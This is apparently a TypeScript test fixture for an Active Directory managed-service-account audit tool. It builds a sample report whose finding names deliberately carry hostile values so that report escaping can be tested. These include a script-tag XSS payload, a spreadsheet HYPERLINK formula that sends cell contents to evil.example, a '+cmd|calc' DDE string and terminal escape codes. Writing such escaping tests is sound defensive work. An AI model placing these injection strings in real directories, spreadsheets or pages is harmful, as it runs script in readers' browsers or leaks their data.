// An AuditReport for the report tests (pure, no lab): a finding of each severity, out of order, whose names carry what
// an attacker who can create a directory object would choose: HTML, Markdown, formulas, quotes, backticks, pipes,
// control characters and non-ASCII letters.
import { auditReportSchema, type AuditReport, type Finding } from '../../electron/common/audit/types.js';

export const EVIL_GROUP = '<script>alert(1)</script>';
export const FORMULA_GROUP = '=HYPERLINK("http://evil.example/?"&A1,"click")';

const finding = (over: Partial<Finding> & Pick<Finding, 'id' | 'kind' | 'severity' | 'title'>): Finding => ({
  why: 'Whoever can do this can take the account over.',
  subject: { kind: 'account', name: 'gmsa-web$', dn: 'CN=gmsa-web,CN=Managed Service Accounts,DC=contoso,DC=com' },
  evidence: [],
  fix: { summary: 'Remove the entry.', command: '' },
  unknown: null,
  moveAccount: null,
  ...over,
});

export const FINDINGS: Finding[] = [
  finding({
    id: 'rc4-only:CN=msa-legacy,CN=Managed Service Accounts,DC=contoso,DC=com',
    kind: 'rc4-only',
    severity: 'medium',
    title: 'msa-legacy$ allows RC4 only',
    subject: {
      kind: 'account',
      name: 'msa-legacy$',
      dn: 'CN=msa-legacy,CN=Managed Service Accounts,DC=contoso,DC=com',
    },
    evidence: ['msDS-SupportedEncryptionTypes: 4 (RC4)'],
    fix: {
      summary: 'Allow AES only.',
      command: "Set-ADServiceAccount -Identity 'msa-legacy$' -KerberosEncryptionType AES128,AES256",
    },
  }),
  finding({
    id: `gmsa-broad-retriever:CN=gmsa-report,CN=Managed Service Accounts,DC=contoso,DC=com`,
    kind: 'gmsa-broad-retriever',
    severity: 'critical',
    title: `${EVIL_GROUP} | can retrieve the password of gmsa-report$ *now*`,
    subject: {
      kind: 'account',
      name: 'gmsa-report$',
      dn: 'CN=gmsa-report,CN=Managed Service Accounts,DC=contoso,DC=com',
    },
    evidence: [`CONTOSO\\${EVIL_GROUP} > CONTOSO\\Domain Users`, 'a `tick` and a | pipe'],
    fix: {
      summary: `Name only the computers that run it (not ${EVIL_GROUP}).`,
      // PowerShell's backtick continues a line: the fence must not end on it.
      command:
        "Set-ADServiceAccount -Identity 'gmsa-report$' `\n  -PrincipalsAllowedToRetrieveManagedPassword 'WEB01$'\n# ``` not the end",
    },
  }),
  finding({
    id: 'badsuccessor-ou:OU=App Servers,DC=contoso,DC=com',
    kind: 'badsuccessor-ou',
    severity: 'critical',
    title: `${FORMULA_GROUP} can create a dMSA in OU=App Servers`,
    subject: { kind: 'ou', name: 'App Servers', dn: 'OU=App Servers,DC=contoso,DC=com' },
    evidence: [`CONTOSO\\${FORMULA_GROUP}: Allow CreateChild (all classes) (explicit)`, '+cmd|calc', '@SUM(1)'],
    fix: { summary: 'Remove the ACE.', command: '-dsacls "OU=App Servers,DC=contoso,DC=com" /R "CONTOSO\\Helpdesk"' },
  }),
  finding({
    id: 'user-should-be-managed:CN=svc-legacy,CN=Users,DC=contoso,DC=com',
    kind: 'user-should-be-managed',
    severity: 'high',
    title:
      'svc-legacy has an SPN and a password that never expires (set 4 years ago) \u2014 Andr\u00e9\u2019s "old" account',
    subject: { kind: 'user', name: 'svc-legacy', dn: 'CN=svc-legacy,CN=Users,DC=contoso,DC=com' },
    evidence: ['pwdLastSet: 2022-12-01', 'SPN HTTP/legacy.contoso.com', 'a\u001b[31mred\r\nline'],
    fix: {
      summary: 'Move it to a managed account.',
      command: 'Get-ADUser svc-legacy -Properties ServicePrincipalName',
    },
    moveAccount: 'svc-legacy',
  }),
  finding({
    id: 'dc-update-level:contoso.com',
    kind: 'dc-update-level',
    severity: 'info',
    title: 'The DCs\u2019 update level could not be read',
    subject: { kind: 'domain', name: 'contoso.com', dn: null },
    unknown: 'The directory does not record the update revision (UBR) of a DC.',
    fix: { summary: 'Read it on each DC.', command: 'Get-HotFix -ComputerName DC01' },
  }),
  finding({
    id: 'unused-90-days:CN=gmsa-old,CN=Managed Service Accounts,DC=contoso,DC=com',
    kind: 'unused-90-days',
    severity: 'low',
    title: 'gmsa-old$ has not logged on for 120 days',
  }),
];

export const REPORT: AuditReport = auditReportSchema.parse({
  domain: 'contoso.com',
  domainController: 'DC01.contoso.com',
  generatedAt: '2026-12-05T04:30:00.000Z',
  accounts: [
    {
      type: 'gMSA',
      sam: 'gmsa-report$',
      name: 'gmsa-report',
      dn: 'CN=gmsa-report,CN=Managed Service Accounts,DC=contoso,DC=com',
      sid: 'S-1-5-21-1-2-3-1601',
      dnsHostName: 'gmsa-report.contoso.com',
      enabled: true,
      created: '2025-01-10T09:00:00.000Z',
      passwordLastSet: '2026-11-20T09:00:00.000Z',
      passwordIntervalDays: 30,
      lastLogon: null,
      encryptionTypes: ['AES128', 'AES256'],
      spns: ['HTTP/report.contoso.com'],
      retrievers: [
        {
          name: `CONTOSO\\${EVIL_GROUP}|x`,
          dn: null,
          sid: null,
          kind: 'group',
          enabled: null,
          via: [],
        },
        {
          name: 'CONTOSO\\WEB01$',
          dn: null,
          sid: null,
          kind: 'computer',
          enabled: false,
          via: ['CONTOSO\\Web Servers'],
        },
        {
          name: 'CONTOSO\\WEB02$',
          dn: null,
          sid: null,
          kind: 'computer',
          enabled: true,
          via: ['CONTOSO\\Web Servers'],
        },
      ],
      linkedHosts: [],
      delegation: { unconstrained: false, protocolTransition: false, allowedToDelegateTo: [] },
      privilegedGroups: [],
      precededBy: null,
      dmsaState: null,
      usedBy: [{ host: 'WEB01', kind: 'task', name: '\\Reports\\Nightly', source: 'discovery' }],
    },
    {
      type: 'sMSA',
      sam: 'msa-legacy$',
      name: 'msa-legacy',
      dn: 'CN=msa-legacy,CN=Managed Service Accounts,DC=contoso,DC=com',
      sid: null,
      dnsHostName: null,
      enabled: true,
      created: null,
      passwordLastSet: null,
      passwordIntervalDays: 30,
      lastLogon: null,
      encryptionTypes: ['RC4'],
      spns: [],
      retrievers: [],
      linkedHosts: ['APP01'],
      delegation: { unconstrained: true, protocolTransition: false, allowedToDelegateTo: [] },
      privilegedGroups: ['Domain Admins'],
      precededBy: null,
      dmsaState: null,
      usedBy: [],
    },
  ],
  findings: FINDINGS,
  kdsKeys: [
    {
      keyId: '6f7e1c1a-0000-4000-8000-000000000001',
      created: '2025-01-01T00:00:00.000Z',
      effective: '2025-01-01T10:00:00.000Z',
      isEffective: true,
      readers: ['CONTOSO\\KDS Readers'],
      readsAudited: false,
    },
  ],
  dcs: [{ name: 'DC01', operatingSystem: 'Windows Server 2025 Datacenter', version: '10.0 (26100)' }],
  queries: 9,
});
